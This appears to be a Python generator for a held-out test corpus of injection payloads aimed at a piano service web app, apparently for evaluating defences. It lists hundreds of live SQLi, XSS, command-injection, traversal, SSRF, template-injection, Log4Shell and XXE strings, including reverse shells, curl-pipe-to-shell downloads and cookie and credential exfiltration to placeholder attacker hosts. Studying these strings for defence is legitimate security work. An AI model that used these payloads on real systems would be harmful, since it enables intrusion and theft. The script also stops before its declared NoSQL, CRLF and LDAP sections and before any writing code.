#!/usr/bin/env python3
"""Attack held-out corpus for a piano tuning and restoration service.

Standard library only. Every payload is a hand-written literal ("class ⟫ value",
{CRLF}/{LF}/{CR} stand for the real control characters). The only computed rows
URL-encode a few of those hand-written literals (class suffix "+urlencode").
Writes attacks.jsonl next to this file.
"""
import json
import os
import random
import urllib.parse

SEED = 20202
PREFIX = "hagk"

TARGETS = {"sqli": 80, "xss": 78, "cmdi": 70, "traversal": 50, "ssrf": 50,
           "code": 82, "nosqli": 27, "crlf": 30, "ldap-xpath": 20}


def rows(block):
    out = []
    for ln in block.strip("\n").split("\n"):
        ln = ln.strip()
        if not ln:
            continue
        cls, val = ln.split(" ⟫ ", 1)
        val = (val.replace("{CRLF}", "\r\n").replace("{LF}", "\n")
               .replace("{CR}", "\r").replace("{ESC}", "\x1b"))
        out.append((cls.strip(), val))
    return out


LIT = {}

LIT["sqli"] = rows(r"""
search-union-select ⟫ steinway' UNION SELECT username,password_hash,NULL FROM users--
search-union-select ⟫ yamaha u1' UNION ALL SELECT NULL,table_name,NULL FROM information_schema.tables-- -
note-union-select ⟫ Pitch raise to A440'/**/UNION/**/SELECT/**/api_key,2,3/**/FROM/**/technicians#
plain-boolean ⟫ ' OR '1'='1
plain-boolean ⟫ ' or 1=1--
plain-boolean ⟫ admin'--
customer-boolean ⟫ O'Brien' OR 'x'='x
customer-boolean ⟫ Müller') OR ('a'='a
number-boolean ⟫ 440 OR 1=1
number-boolean ⟫ 4471 or 2>1
cents-boolean ⟫ -18 OR 3=3--
invoice-stacked-mssql ⟫ INV-2024-0117'; DROP TABLE invoices;--
invoice-stacked-pg ⟫ INV-0331'; UPDATE invoices SET status='paid' WHERE '1'='1'; --
order-stacked-mssql ⟫ PO-7731'; EXEC xp_cmdshell 'whoami';--
order-stacked-mssql ⟫ PT-2024-0331'; EXEC master..xp_cmdshell 'ping 203.0.113.9'--
time-mysql ⟫ Kawai K-300' AND SLEEP(5)-- -
time-mysql ⟫ a440' AND (SELECT 1 FROM (SELECT SLEEP(7))x)-- -
time-mysql-benchmark ⟫ tuning' AND BENCHMARK(5000000,MD5('x'))#
time-pg ⟫ Bechstein'||pg_sleep(6)--
time-pg ⟫ 442; SELECT pg_sleep(10)--
time-mssql ⟫ Steinway B'; WAITFOR DELAY '0:0:8'--
time-mssql ⟫ 4471); WAITFOR DELAY '00:00:05'--
time-oracle ⟫ pitch raise' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',6)--
time-sqlite ⟫ unisons' AND 1=randomblob(500000000)--
error-mysql-extractvalue ⟫ Petrof' AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT version())))-- -
error-mysql-updatexml ⟫ 440' AND updatexml(null,concat(0x3a,(select user())),null)#
error-mssql-convert ⟫ Yamaha C3' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects))--
error-pg-cast ⟫ hammer shanks' AND 1=CAST((SELECT current_user) AS int)--
error-oracle ⟫ O'Hara' AND 1=CTXSYS.DRITHSX.SN(1,(SELECT user FROM dual))--
sort-order-by ⟫ last_tuned desc, (SELECT CASE WHEN (1=1) THEN 1 ELSE 1/0 END)
sort-order-by ⟫ cents_before,IF((SELECT COUNT(*) FROM users)>0,SLEEP(4),1)
sort-order-by ⟫ 1,(select case when substring(current_user,1,1)='p' then pg_sleep(5) else null end)
sort-probe ⟫ date ORDER BY 9--
comment-as-space ⟫ 440'/**/oR/**/1/**/=/**/1#
comment-inline-mysql ⟫ Baldwin'/*!50000UNION*//*!50000SELECT*/1,@@version,3-- -
case-mixing ⟫ kawai' uNiOn SeLeCt NuLl,CoNcAt(email,0x3a,pw),NuLl fRoM customers-- -
note-blind-substring ⟫ tuned to 441' AND SUBSTRING((SELECT password FROM users LIMIT 1),1,1)='a'--
note-blind-ascii ⟫ bass strings dead' AND ASCII(SUBSTR((SELECT api_key FROM settings),1,1))>64 AND 'z'='z
note-blind-oracle ⟫ Temperament Vallotti' AND (SELECT SUBSTR(banner,1,1) FROM v$version WHERE ROWNUM=1)='O'--
oob-mssql ⟫ Seiler 116'; EXEC master..xp_dirtree '\\203.0.113.7\share\x';--
oob-mysql ⟫ F3 string' AND LOAD_FILE(CONCAT('\\\\',(SELECT password FROM users LIMIT 1),'.attacker.example\\a'))-- -
oob-oracle ⟫ Blüthner' AND UTL_HTTP.REQUEST('http://attacker.example/'||(SELECT user FROM dual)) IS NOT NULL--
oob-pg-copy ⟫ 440'; COPY (SELECT '') TO PROGRAM 'curl http://198.51.100.4/x|sh';--
file-mysql-outfile ⟫ Verituner' UNION SELECT '<?php system($_GET[c]); ?>',2,3 INTO OUTFILE '/var/www/html/t.php'-- -
file-mysql-load ⟫ bösendorfer' UNION SELECT LOAD_FILE('/etc/passwd'),2,3-- -
file-pg-read ⟫ 442'; SELECT pg_read_file('/etc/passwd');--
sqlite-schema ⟫ hammer' UNION SELECT name,sql,1 FROM sqlite_master--
mssql-version ⟫ Steinway D' UNION SELECT @@version,NULL,NULL--
pg-string-concat ⟫ Schimmel' AND 'a'||'b'='ab' AND (SELECT COUNT(*) FROM pg_user)>0--
mysql-hex-string ⟫ tuning' UNION SELECT 1,0x61646d696e,3 FROM users WHERE name=0x61646d696e-- -
mysql-char ⟫ 440' UNION SELECT CHAR(97,100,109,105,110),2,3-- -
mssql-char-concat ⟫ yamaha'+(SELECT TOP 1 name FROM users)+'
insert-values ⟫ Great tuning!', (SELECT password FROM users WHERE id=1))--
insert-values ⟫ Five stars', 5, (SELECT @@version))-- -
update-set ⟫ sounds great', is_admin=1 WHERE email='attacker@attacker.example'--
invoice-amount-number ⟫ 95.00 UNION SELECT card_number,cvv FROM payments
invoice-id-number ⟫ 117 AND 1=(SELECT COUNT(*) FROM tabname); --
invoice-id-number ⟫ 0117-IF(1=1,SLEEP(5),0)
like-wildcard-break ⟫ %' AND 1=0 UNION SELECT null,version(),null--
hash-comment ⟫ pitch 440'#
double-dash-plus ⟫ Kawai' OR 1=1--+
semicolon-null ⟫ 442';SELECT 1;--
json-operator-pg ⟫ stretch' AND (SELECT settings::text FROM config LIMIT 1) LIKE '%key%'--
having-probe ⟫ Yamaha' HAVING 1=1--
group-by-probe ⟫ Yamaha' GROUP BY customers.id HAVING 1=1--
mssql-openrowset ⟫ Pleyel'; SELECT * FROM OPENROWSET('SQLOLEDB','server=203.0.113.5;uid=sa;pwd=x','select 1')--
oracle-union-dual ⟫ Feurich' UNION SELECT username,password FROM dba_users WHERE ROWNUM<5 --
backslash-escape ⟫ Zimmermann\' OR 1=1-- -
fullwidth-quote ⟫ ＇ OR 1=1--
unicode-bestfit-quote ⟫ A440ʼ OR ʼ1ʼ=ʼ1
url-encoded ⟫ steinway%27%20UNION%20SELECT%20password%20FROM%20users--
double-url-encoded ⟫ steinway%2527%2520OR%25201%253D1--
""")

LIT["xss"] = rows(r"""
plain-script ⟫ <script>alert(document.domain)</script>
plain-img-onerror ⟫ <img src=x onerror=alert(1)>
plain-svg-onload ⟫ <svg onload=alert(document.cookie)>
note-script ⟫ Pitch raise done <script>fetch('https://attacker.example/c?'+document.cookie)</script>
note-img-onerror ⟫ Unisons C5–F5 cleaned <img src=/ onerror="new Image().src='//attacker.example/?c='+document.cookie">
review-svg ⟫ Five stars!! <svg/onload=alert`1`>
review-body-onload ⟫ Great tuner <body onload=alert(origin)>
chat-iframe-js ⟫ see my piano photo <iframe src="javascript:alert(document.domain)"></iframe>
chat-a-javascript ⟫ <a href="javascript:alert(1)">photo of the cracked bridge</a>
name-attr-break ⟫ O'Brien" onmouseover="alert(1)" x="
name-attr-break ⟫ Müller' autofocus onfocus='alert(document.cookie)' '
name-attr-break-nospace ⟫ Rossi"/onpointerenter=alert(1)//
tag-close-title ⟫ Steinway B</title><script>alert(1)</script>
tag-close-textarea ⟫ </textarea><img src=x onerror=alert(1)>
tag-close-style ⟫ </style><svg onload=alert(1)>
js-string-break ⟫ yamaha';alert(document.domain);//
js-string-break ⟫ 440";alert(1);//
js-template-break ⟫ ${alert(document.cookie)}`;alert(1)//
script-close-in-json ⟫ </script><script>alert(1)</script>
details-ontoggle ⟫ <details open ontoggle=alert(1)>tuning notes</details>
input-autofocus ⟫ <input autofocus onfocus=alert(1)>
video-source-onerror ⟫ <video><source onerror="alert(1)"></video>
audio-onerror ⟫ A440 fork recording <audio src=x onerror=alert(1)>
marquee-onstart ⟫ <marquee onstart=alert(1)>Piano tuning special</marquee>
math-href ⟫ <math><maction actiontype="statusline" xlink:href="javascript:alert(1)">click</maction></math>
custom-tag-event ⟫ <xss onpointerover=alert(1) style=display:block>hover for tuning report</xss>
embed-src-svg ⟫ <embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">
form-action ⟫ <form action="javascript:alert(1)"><button>Pay invoice</button></form>
button-formaction ⟫ <button formaction=javascript:alert(1)>Confirm appointment</button>
meta-refresh-redirect ⟫ <meta http-equiv="refresh" content="0;url=https://attacker.example/pay-invoice">
base-href ⟫ <base href="https://attacker.example/">
link-import-css ⟫ <link rel=stylesheet href=//attacker.example/x.css>
select-autofocus ⟫ <select autofocus onfocus=alert(1)><option>Steinway B</option></select>
svg-animate ⟫ <svg><animate onbegin=alert(1) attributeName=x dur=1s>
svg-set-href ⟫ <svg><a><set attributeName=href to=javascript:alert(1) /><text y=20>Invoice PDF</text></a></svg>
svg-use-data ⟫ <svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x"/></svg>
entity-encoded-js ⟫ <a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">tuning record</a>
hex-entity-js ⟫ <a href="&#x6A;avascript&#x3A;alert(1)">PO-7731</a>
tab-in-scheme ⟫ <a href="jav&#x09;ascript:alert(1)">click</a>
case-mixing ⟫ <ScRiPt>alert(1)</sCrIpT>
case-mixing ⟫ <IMG SRC=x OnErRoR=alert(1)>
no-quotes-slash ⟫ <img/src/onerror=alert(1)>
fromcharcode ⟫ <img src=x onerror=eval(String.fromCharCode(97,108,101,114,116,40,49,41))>
atob-eval ⟫ <svg onload=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>
unicode-escape-js ⟫ <img src=x onerror=\u0061lert(1)>
template-literal-call ⟫ <img src=x onerror=alert`document.domain`>
constructor-call ⟫ <img src=x onerror=[].constructor.constructor('alert(1)')()>
import-module ⟫ <img src=x onerror=import('//attacker.example/m.js')>
script-src-remote ⟫ Regulated let-off <script src=https://attacker.example/x.js></script>
script-src-protocol-relative ⟫ <script src=//attacker.example/k></script>
noscript-breakout ⟫ <noscript><p title="</noscript><img src=x onerror=alert(1)>">
comment-breakout ⟫ <!--<img src="--><img src=x onerror=alert(1)//">
cdata-svg ⟫ <svg><![CDATA[><image xlink:href="]]><img src=x onerror=alert(1)//"></svg>
angular-sandbox ⟫ {{constructor.constructor('alert(1)')()}}
angular-sandbox ⟫ Concert tuning {{$on.constructor('alert(document.cookie)')()}}
vue-template ⟫ <div v-html="'<img src=x onerror=alert(1)>'"></div>
markdown-link-js ⟫ [Tuning certificate](javascript:alert(document.cookie))
markdown-image-onerror ⟫ ![piano](x" onerror="alert(1))
markdown-html ⟫ **Tuned to 442** <img src=x onerror=alert(1)>
mxss-namespace ⟫ <svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
fullscreen-onclick ⟫ <p onclick=alert(1) style=position:fixed;inset:0>tap to view invoice</p>
svg-discard ⟫ <svg><discard onbegin=alert(1)>
srcdoc ⟫ <iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>
data-uri-iframe ⟫ <iframe src="data:text/html,<script>alert(origin)</script>">
xlink-href-svg ⟫ <svg><a xlink:href="javascript:alert(1)"><rect width=100 height=100 /></a></svg>
onanimationstart ⟫ <style>@keyframes k{}</style><div style="animation-name:k" onanimationstart="alert(1)">pin torque</div>
url-encoded ⟫ %3Cscript%3Ealert(1)%3C%2Fscript%3E
double-url-encoded ⟫ %253Cimg%2520src%253Dx%2520onerror%253Dalert(1)%253E
fullwidth-brackets ⟫ ＜script＞alert(1)＜/script＞
overlong-utf8 ⟫ %C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE
percent-u ⟫ %u003Cscript%u003Ealert(1)%u003C/script%u003E
json-unicode-escape ⟫ \u003cimg src=x onerror=alert(1)\u003e
""")

LIT["cmdi"] = rows(r"""
plain-semicolon ⟫ ; cat /etc/passwd
plain-pipe ⟫ | id
plain-and ⟫ && whoami
plain-backtick ⟫ `id`
plain-subshell ⟫ $(id)
filename-semicolon ⟫ Yamaha_U3_2024-03-12.pta; curl http://attacker.example/s.sh | sh
filename-subshell ⟫ tunings_$(curl -s 203.0.113.10/x|bash).csv
filename-backtick ⟫ export_`wget -qO- http://198.51.100.3/p|sh`.csv
filename-pipe ⟫ photo_4471.jpg | nc 203.0.113.20 4444 -e /bin/sh
note-and-chain ⟫ pitch raise done && rm -rf /var/www/uploads
note-or-chain ⟫ bass strings dead || bash -i >& /dev/tcp/203.0.113.50/443 0>&1
serial-newline ⟫ 4471203{LF}cat /etc/shadow
serial-cr-lf ⟫ SN5512339{CRLF}id
serial-url-newline ⟫ 5512339%0Aid%0A
printer-name ⟫ Brother QL-800; nc -e /bin/sh 198.51.100.22 9001
ping-host ⟫ 127.0.0.1; cat /etc/passwd
ping-host ⟫ 8.8.8.8 & net user
ping-host-ifs ⟫ 127.0.0.1;cat${IFS}/etc/passwd
ping-host-ifs ⟫ localhost;{cat,/etc/hosts}
brace-expansion ⟫ ;{wget,http://attacker.example/b,-O,/tmp/b};sh /tmp/b
var-obfuscation ⟫ ;c'a't /e"t"c/pa''sswd
var-obfuscation ⟫ ;/???/c?t /???/p??s??
backslash-obfuscation ⟫ ; w\h\o\a\m\i
hex-echo ⟫ ;$(printf '\x69\x64')
base64-pipe ⟫ ;echo Y2F0IC9ldGMvcGFzc3dk|base64 -d|sh
dollar-at ⟫ ;who$@ami
tab-separator ⟫ ;cat%09/etc/passwd
sleep-blind ⟫ A440; sleep 10
sleep-blind ⟫ Steinway B `sleep 7`
ping-blind ⟫ Kawai || ping -c 10 127.0.0.1
dns-exfil ⟫ ;nslookup $(whoami).attacker.example
curl-exfil ⟫ $(curl -d @/etc/passwd https://attacker.example/u)
arg-injection-curl ⟫ -o /var/www/html/shell.php http://attacker.example/shell.txt
arg-injection-tar ⟫ --checkpoint=1 --checkpoint-action=exec=sh /tmp/x.sh
arg-injection-find ⟫ photos -exec sh -c 'id>/tmp/o' ;
arg-injection-git ⟫ --upload-pack=touch /tmp/pwned
arg-injection-ssh ⟫ -oProxyCommand=sh -c 'id>/tmp/p' x
arg-injection-wget ⟫ --use-askpass=/tmp/evil.sh http://example.invalid/
arg-injection-rsync ⟫ -e 'sh -c id' backup@nas:/pianos
arg-injection-zip ⟫ exports.zip -T -TT 'sh -c id #'
arg-injection-sendmail ⟫ marta@pianoworks.example -OQueueDirectory=/tmp -X/var/www/html/log.php
arg-injection-imagemagick ⟫ photo.jpg -write /var/www/html/x.php
arg-injection-ffmpeg ⟫ -i /etc/passwd -f data http://attacker.example/up
imagemagick-mvg ⟫ push graphic-context{LF}viewbox 0 0 640 480{LF}fill 'url(https://x.invalid"|id; ")'{LF}pop graphic-context
exiftool-djvu ⟫ (metadata "\c${system('id')};")
windows-amp ⟫ Steinway.pdf & type C:\Windows\win.ini
windows-pipe ⟫ report.csv | net localgroup administrators attacker /add
windows-caret ⟫ & w^h^o^a^m^i
windows-percent-var ⟫ & %COMSPEC% /c dir C:\
windows-for-loop ⟫ & for /f %i in ('whoami') do nslookup %i.attacker.example
windows-certutil ⟫ & certutil -urlcache -split -f http://203.0.113.8/b.exe %TEMP%\b.exe & %TEMP%\b.exe
powershell-iex ⟫ ; powershell -nop -c "IEX(New-Object Net.WebClient).DownloadString('http://attacker.example/a.ps1')"
powershell-encoded ⟫ | powershell -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwBhAHQAdABhAGMAawBlAHIALgBlAHgAYQBtAHAAbABlACkA
powershell-subexpr ⟫ $(Get-Content C:\inetpub\wwwroot\web.config)
powershell-invoke-webrequest ⟫ ; iwr -Uri http://198.51.100.9/x -OutFile $env:TEMP\x.ps1; & $env:TEMP\x.ps1
python-oneliner ⟫ ; python3 -c 'import os;os.system("id")'
perl-oneliner ⟫ | perl -e 'exec "/bin/sh"'
php-oneliner ⟫ ; php -r 'system("id");'
busybox-telnetd ⟫ ;busybox telnetd -l /bin/sh -p 4444
mkfifo-revshell ⟫ ;rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.77 1234 >/tmp/f
crontab-persist ⟫ ; echo '* * * * * curl attacker.example|sh' | crontab -
ssh-key-write ⟫ ; echo ssh-ed25519 AAAAFAKEKEY attacker >> ~/.ssh/authorized_keys
process-substitution ⟫ ;bash <(curl -s http://attacker.example/i)
redirect-write ⟫ ;echo '<?php system($_GET[0]);?>' > /var/www/html/c.php
url-encoded ⟫ %3Bcat%20%2Fetc%2Fpasswd
double-url-encoded ⟫ %253Bid%253B
""")

LIT["traversal"] = rows(r"""
plain-dotdot ⟫ ../../../../etc/passwd
plain-dotdot ⟫ ../../../../../../etc/shadow
plain-windows ⟫ ..\..\..\..\Windows\win.ini
photo-path ⟫ jobs/4471/photos/../../../../../etc/passwd
photo-path ⟫ before_1.jpg/../../../../proc/self/environ
export-path ⟫ exports/tunings_2024-06.csv/../../../../../app/.env
style-path ⟫ Styles\..\..\..\..\..\Windows\System32\drivers\etc\hosts
invoice-pdf ⟫ invoices/INV-2024-0117.pdf/../../../config/database.yml
invoice-pdf ⟫ ../../../../var/www/pianoworks/config/secrets.json
absolute-path ⟫ /etc/passwd
absolute-path ⟫ /proc/self/cmdline
absolute-windows ⟫ C:\Windows\System32\config\SAM
unc-path ⟫ \\203.0.113.40\share\piano.pta
file-scheme ⟫ file:///etc/passwd
url-encoded ⟫ ..%2F..%2F..%2F..%2Fetc%2Fpasswd
url-encoded-dots ⟫ %2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/hosts
url-encoded-all ⟫ %2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd
double-url-encoded ⟫ %252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd
overlong-utf8 ⟫ %c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd
overlong-utf8-slash ⟫ ..%c0%af..%c0%af..%c0%afetc/passwd
overlong-utf8-3byte ⟫ %e0%80%ae%e0%80%ae/%e0%80%ae%e0%80%ae/etc/passwd
percent-u ⟫ ..%u2215..%u2215..%u2215etc%u2215passwd
percent-u-dots ⟫ %u002e%u002e/%u002e%u002e/etc/passwd
backslash-encoded ⟫ ..%5c..%5c..%5c..%5cwindows%5cwin.ini
mixed-slashes ⟫ ..\/..\/..\/..\/etc/passwd
nested-strip ⟫ ....//....//....//....//etc/passwd
nested-strip ⟫ ..././..././..././etc/passwd
nested-strip-windows ⟫ ....\\....\\....\\windows\\win.ini
null-byte ⟫ ../../../../etc/passwd%00.jpg
null-byte ⟫ photo_4471.jpg/../../../../etc/passwd%00
semicolon-tomcat ⟫ /..;/..;/manager/html
dot-segment-url ⟫ /static/%2e%2e/%2e%2e/%2e%2e/etc/passwd
fullwidth-dots ⟫ ．．/．．/．．/etc/passwd
java-webinf ⟫ ../../WEB-INF/web.xml
aspnet-webconfig ⟫ ..\..\web.config
dotnet-appsettings ⟫ ../../../appsettings.Production.json
app-env ⟫ ../../.env
git-config ⟫ ../../../.git/config
ssh-key ⟫ ../../../../home/deploy/.ssh/id_rsa
k8s-token ⟫ ../../../../var/run/secrets/kubernetes.io/serviceaccount/token
proc-environ ⟫ ../../../../proc/self/environ
zip-slip-entry ⟫ ../../../../../var/www/html/shell.php
php-filter ⟫ php://filter/convert.base64-encode/resource=../config.php
php-wrapper-zip ⟫ zip://uploads/photo_4471.jpg#shell
import-path-windows ⟫ ..\..\..\..\..\Users\Administrator\NTUSER.DAT
""")

LIT["ssrf"] = rows(r"""
plain-metadata ⟫ http://169.254.169.254/latest/meta-data/iam/security-credentials/
plain-localhost ⟫ http://127.0.0.1:8080/admin
webhook-metadata ⟫ https://hooks.example.com@169.254.169.254/latest/user-data
calendar-sync ⟫ http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token
calendar-sync-azure ⟫ http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/
photo-url-gcp ⟫ http://metadata.google.internal/computeMetadata/v1/project/project-id
photo-url-alibaba ⟫ http://100.100.100.200/latest/meta-data/
photo-url-oracle ⟫ http://192.0.0.192/latest/
webhook-internal-svc ⟫ http://payments-internal:8080/api/refunds
webhook-internal-svc ⟫ http://redis.internal:6379/
webhook-rfc1918 ⟫ http://10.0.0.12/actuator/env
webhook-rfc1918 ⟫ http://192.168.1.1/cgi-bin/admin
webhook-rfc1918 ⟫ http://172.16.4.20:2375/containers/json
decimal-ip ⟫ http://2130706433/admin
decimal-ip-metadata ⟫ http://2852039166/latest/meta-data/
hex-ip ⟫ http://0x7f000001:8080/
hex-ip-dotted ⟫ http://0xa9.0xfe.0xa9.0xfe/latest/meta-data/
octal-ip ⟫ http://0177.0.0.1/
octal-ip-metadata ⟫ http://0251.0376.0251.0376/latest/meta-data/
short-ip ⟫ http://127.1:9200/_cat/indices
zero-ip ⟫ http://0.0.0.0:8500/v1/agent/self
ipv6-loopback ⟫ http://[::1]:6379/
ipv6-mapped ⟫ http://[::ffff:169.254.169.254]/latest/meta-data/
ipv6-mapped-hex ⟫ http://[0:0:0:0:0:ffff:7f00:1]/
userinfo-confusion ⟫ https://pianoworks.example@127.0.0.1/admin
fragment-confusion ⟫ http://127.0.0.1:80#@calendar.example.com/ical.ics
backslash-confusion ⟫ https://calendar.example.com\@169.254.169.254/
dns-rebind ⟫ http://127.0.0.1.nip.io/admin
attacker-redirect ⟫ https://attacker.example/redirect?to=http://169.254.169.254/latest/meta-data/
gopher-redis ⟫ gopher://127.0.0.1:6379/_SET%20x%20%22%5Cn*/1%20*%20*%20*%20*%20bash%20-i%22%0D%0ACONFIG%20SET%20dir%20/var/spool/cron/%0D%0ASAVE%0D%0A
gopher-smtp ⟫ gopher://127.0.0.1:25/_HELO%20x%0D%0AMAIL%20FROM:<a@attacker.example>%0D%0A
dict-scheme ⟫ dict://127.0.0.1:11211/stats
file-scheme ⟫ file:///proc/self/environ
ftp-internal ⟫ ftp://10.0.0.5/backups/customers.sql
ldap-scheme ⟫ ldap://127.0.0.1:389/dc=pianoworks,dc=local
jar-scheme ⟫ jar:http://203.0.113.30/x.jar!/
netdoc-scheme ⟫ netdoc:///etc/passwd
kubelet ⟫ https://10.0.0.1:10250/pods
docker-api ⟫ http://localhost:2375/v1.40/containers/json
consul ⟫ http://127.0.0.1:8500/v1/kv/?recurse
elastic ⟫ http://localhost:9200/_search?q=*
url-encoded-host ⟫ http://%31%32%37%2e%30%2e%30%2e%31/admin
fullwidth-host ⟫ http://１２７．０．０．１/admin
enclosed-alnum ⟫ http://①②⑦.⓪.⓪.①/
mixed-case-scheme ⟫ HtTp://LoCaLhOsT:8080/manage
import-url-internal ⟫ Import from: http://169.254.169.254/latest/api/token
webhook-with-theme ⟫ Webhook URL: http://127.0.0.1:9000/internal/invoices/export?all=true
""")

LIT["code"] = rows(r"""
ssti-jinja2 ⟫ Hi {{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}
ssti-jinja2 ⟫ Reminder {{ cycler.__init__.__globals__.os.popen('cat /etc/passwd').read() }}
ssti-jinja2-attr ⟫ {{ request|attr('application')|attr('\x5f\x5fglobals\x5f\x5f') }}
ssti-jinja2-config ⟫ {{ config.items() }}
ssti-jinja2-mro ⟫ {{ ''.__class__.__mro__[1].__subclasses__() }}
ssti-twig ⟫ {{['id']|filter('system')}}
ssti-twig ⟫ Invoice footer {{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}
ssti-freemarker ⟫ <#assign ex="freemarker.template.utility.Execute"?new()>${ ex("id") }
ssti-freemarker-api ⟫ ${"freemarker.template.utility.ObjectConstructor"?new()("java.lang.ProcessBuilder","id").start()}
ssti-velocity ⟫ #set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))$rt.getRuntime().exec('id')
ssti-thymeleaf ⟫ __${T(java.lang.Runtime).getRuntime().exec('id')}__::.x
ssti-smarty ⟫ {system('id')}
ssti-smarty-php ⟫ {php}echo `id`;{/php}
ssti-mako ⟫ ${__import__('os').popen('id').read()}
ssti-mako-block ⟫ <% import os; os.system('id') %>
ssti-erb ⟫ <%= `id` %>
ssti-erb-system ⟫ Tuning on <%= system('cat /etc/passwd') %>
ssti-slim-haml ⟫ #{`id`}
ssti-handlebars ⟫ {{#with "s" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub "constructor")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push "return process.mainModule.require('child_process').execSync('id');"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}
ssti-nunjucks ⟫ {{range.constructor("return global.process.mainModule.require('child_process').execSync('id')")()}}
ssti-pug ⟫ #{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad("child_process").exec('id')}()}
ssti-ejs ⟫ <%= process.mainModule.require('child_process').execSync('id') %>
ssti-tornado ⟫ {% import os %}{{ os.popen("id").read() }}
ssti-django-debug ⟫ {% debug %}
ssti-razor ⟫ @System.Diagnostics.Process.Start("cmd.exe","/c whoami")
ssti-pebble ⟫ {{ variable.getClass().forName('java.lang.Runtime').getRuntime().exec('id') }}
ssti-jinja2-theme ⟫ Dear {{first_name}}, A4 tuned {{ lipsum.__globals__['os'].popen('id').read() }}
el-spel ⟫ #{T(java.lang.Runtime).getRuntime().exec('curl attacker.example')}
el-spel ⟫ ${T(java.lang.System).getenv()}
el-jsp ⟫ ${pageContext.request.getSession().setAttribute("admin",true)}
el-jakarta ⟫ ${"".getClass().forName("java.lang.Runtime").getMethod("getRuntime").invoke(null).exec("id")}
ognl-struts ⟫ %{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}
ognl-struts ⟫ ${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec('id').getInputStream(),"utf-8")).(@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader("X-Cmd-Response",#a))}
mvel ⟫ @{Runtime.getRuntime().exec("id")}
log4shell-ldap ⟫ ${jndi:ldap://attacker.example/a}
log4shell-note ⟫ Customer note: ${jndi:ldap://203.0.113.66:1389/Exploit}
log4shell-useragent ⟫ Verituner/6.2 ${jndi:rmi://attacker.example:1099/o}
log4shell-lower ⟫ ${${lower:j}ndi:${lower:l}dap://attacker.example/x}
log4shell-nested ⟫ ${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://198.51.100.8/a}
log4shell-env-exfil ⟫ ${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example}
log4shell-date-obf ⟫ ${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://attacker.example/z}
log4shell-upper ⟫ ${jNdI:LdAp://attacker.example/p}
eval-python ⟫ __import__('os').system('id')
eval-python-theme ⟫ 440 + __import__('subprocess').check_output(['cat','/etc/passwd'])
eval-js-node ⟫ require('child_process').exec('curl http://attacker.example/s|sh')
eval-js-node ⟫ 442;process.mainModule.require('child_process').execSync('id')
eval-php ⟫ phpinfo();
eval-php-system ⟫ ";system($_GET['c']);//
eval-ruby ⟫ #{%x(id)}
eval-perl ⟫ ${\ system("id") }
proto-pollution-json ⟫ {"__proto__": {"isAdmin": true}}
proto-pollution-constructor ⟫ {"constructor": {"prototype": {"role": "admin"}}}
proto-pollution-query ⟫ __proto__[isAdmin]=true
proto-pollution-query ⟫ constructor[prototype][shell]=/proc/self/exe
proto-pollution-gadget ⟫ {"__proto__":{"outputFunctionName":"x;process.mainModule.require('child_process').execSync('id');s"}}
csv-dde ⟫ =cmd|' /C calc'!A0
csv-dde-theme ⟫ =cmd|'/C powershell IEX(wget attacker.example/x)'!A1
csv-hyperlink ⟫ =HYPERLINK("https://attacker.example/?d="&A1&B1,"View tuning record")
csv-plus ⟫ +cmd|'/c notepad'!A1
csv-at ⟫ @SUM(1+1)*cmd|' /C calc'!A0
csv-minus ⟫ -2+3+cmd|' /C calc'!A0
csv-webservice ⟫ =WEBSERVICE("https://attacker.example/leak?c="&C2)
csv-importxml ⟫ =IMPORTXML(CONCAT("https://attacker.example/?v=",A2),"//a")
xxe-file ⟫ <?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><tuning><note>&x;</note></tuning>
xxe-ssrf ⟫ <!DOCTYPE t [<!ENTITY e SYSTEM "http://169.254.169.254/latest/meta-data/">]><piano>&e;</piano>
xxe-parameter-oob ⟫ <!DOCTYPE d [<!ENTITY % p SYSTEM "http://attacker.example/e.dtd"> %p;]><order/>
xxe-php-filter ⟫ <!DOCTYPE i [<!ENTITY s SYSTEM "php://filter/read=convert.base64-encode/resource=index.php">]><invoice>&s;</invoice>
xinclude ⟫ <part xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></part>
xxe-svg-upload ⟫ <?xml version="1.0"?><!DOCTYPE svg [<!ENTITY f SYSTEM "file:///etc/hostname">]><svg xmlns="http://www.w3.org/2000/svg"><text>&f;</text></svg>
